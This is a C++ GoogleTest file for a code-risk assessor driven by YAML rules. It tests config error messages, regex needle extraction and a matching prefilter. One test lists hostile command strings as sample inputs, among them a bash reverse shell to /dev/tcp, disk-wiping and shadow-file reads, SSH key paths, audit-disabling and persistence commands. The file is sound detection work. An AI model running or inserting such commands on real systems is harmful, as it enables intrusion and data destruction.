#include <gtest/gtest.h>

#include "assess/assessor.hpp"
#include "corpus.hpp"

namespace mai::assess {
namespace {

ConfigError error_of(const std::string& rules_yaml, const std::string& threats_yaml = "{}") {
  try {
    Assessor::from_nodes(config::Node::parse("assessment.yaml", rules_yaml),
                         config::Node::parse("known-threats.yaml", threats_yaml));
  } catch (const ConfigError& e) {
    return e;
  }
  ADD_FAILURE() << "no ConfigError for:\n" << rules_yaml;
  return ConfigError("", 0, "", "");
}

TEST(Rules, BuiltinRulesLoad) {
  auto a = Assessor::from_config(config::Source(std::nullopt));
  EXPECT_GT(a.rules().rules().size(), 40u);
  EXPECT_GT(a.threats().package_count(), 50u);
}

TEST(Rules, BrokenRuleFilesNameFileLineAndField) {
  auto e = error_of("rules:\n  - id: X\n    level: SEVERE\n    message: m\n    behavioural: false\n"
                    "    match: [{call: [os.system]}]\n");
  EXPECT_EQ(e.file(), "assessment.yaml");
  EXPECT_EQ(e.line(), 3);
  EXPECT_EQ(e.field(), "rules[0].level");

  e = error_of("rules:\n  - id: X\n    level: LOW\n    message: m\n    behavioural: false\n"
               "    match:\n      - call: [os.system]\n        args: '(unclosed'\n");
  EXPECT_EQ(e.line(), 8);
  EXPECT_NE(std::string(e.what()).find("regular expression"), std::string::npos);

  e = error_of("rules:\n  - id: X\n    level: LOW\n    message: m\n    behavioural: false\n"
               "    when: {all: [nope]}\n");
  EXPECT_EQ(e.line(), 6);
  EXPECT_NE(std::string(e.what()).find("nope"), std::string::npos);

  e = error_of("rules:\n  - id: X\n    level: LOW\n    mesage: m\n");
  EXPECT_EQ(e.line(), 4);

  e = error_of("rules:\n  - id: X\n    level: LOW\n    message: m\n");  // behavioural missing
  EXPECT_NE(std::string(e.what()).find("missing"), std::string::npos);

  e = error_of("rules: []\n", "payload_sha256: [abc]\n");
  EXPECT_EQ(e.file(), "known-threats.yaml");
  EXPECT_EQ(e.line(), 1);
}

TEST(Rules, RulesAreData) {
  auto a = Assessor::from_nodes(
      config::Node::parse("assessment.yaml",
                          "rules:\n  - id: NO-PRINT\n    level: HIGH\n    message: prints\n"
                          "    behavioural: false\n    match: [{call: [builtins.print], args: secret}]\n"),
      config::Node::parse("known-threats.yaml", "{}"));
  EXPECT_EQ(a.assess("print('a secret')\n", Language::python, Origin::mai).level, RiskLevel::high);
  EXPECT_EQ(a.assess("print('nothing')\n", Language::python, Origin::mai).level, RiskLevel::low);
}

}  // namespace
}  // namespace mai::assess

namespace mai::assess {
namespace {

TEST(Rules, RegexNeedles) {
  EXPECT_EQ(regex_needles("/dev/(tcp|udp)/"), std::vector<std::string>{"/dev/"});
  EXPECT_EQ(regex_needles("(^|\\s)(-F|--flush)(\\s|$)"), (std::vector<std::string>{"-F", "--flush"}));
  EXPECT_EQ(regex_needles("ab?c"), std::vector<std::string>{"a"});
  EXPECT_TRUE(regex_needles("a|b*").empty());
  EXPECT_TRUE(regex_needles("^(?=x)y?").empty());
  EXPECT_EQ(regex_needles("\\.ssh/id_"), std::vector<std::string>{".ssh/id_"});
}

// The prefilter may only skip texts the regex cannot match.
TEST(Rules, PrefilterNeverRejectsAMatch) {
  auto a = Assessor::from_config(config::Source(std::nullopt));
  std::vector<const Regex*> regexes;
  for (const auto& r : a.rules().rules())
    for (const auto& m : r.match) {
      if (m.args) regexes.push_back(&*m.args);
      if (m.redirect) regexes.push_back(&*m.redirect);
      if (m.string_regex) regexes.push_back(&*m.string_regex);
      for (const auto& w : m.where) regexes.push_back(&w.re);
    }
  ASSERT_GT(regexes.size(), 50u);
  std::vector<std::string> texts = {"bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "-rf /", "enable x.service",
                                    "0o4755", "-e /bin/sh 1.2.3.4 9", "of=/dev/sda", "~/.ssh/id_rsa",
                                    ">>/etc/hosts", "-F", "u+s /usr/bin/find", "stop auditd", "0", "/etc/shadow",
                                    "install -y nginx", "--privileged -v /:/host", ">>~/.bashrc", "exec:bash",
                                    "-c", "-d", "/etc/cron.d/x", "CurrentVersion\\Run", "-a rx/0", "enc -aes-256-cbc"};
  // Plus every line of the corpus (all the command lines the rules were written for).
  for (const auto& s : corpus::load()) {
    size_t p = 0;
    while (p < s.code.size() && texts.size() < 20000) {
      size_t e = s.code.find('\n', p);
      if (e == std::string::npos) e = s.code.size();
      texts.push_back(s.code.substr(p, e - p));
      p = e + 1;
    }
  }
  int matched = 0;
  for (const auto* re : regexes)
    for (const auto& t : texts) {
      bool full = std::regex_search(t, re->re);
      if (full) ++matched;
      EXPECT_EQ(regex_find(*re, t), full) << re->source << " on " << t;
    }
  EXPECT_GT(matched, 5);
}

}  // namespace
}  // namespace mai::assess
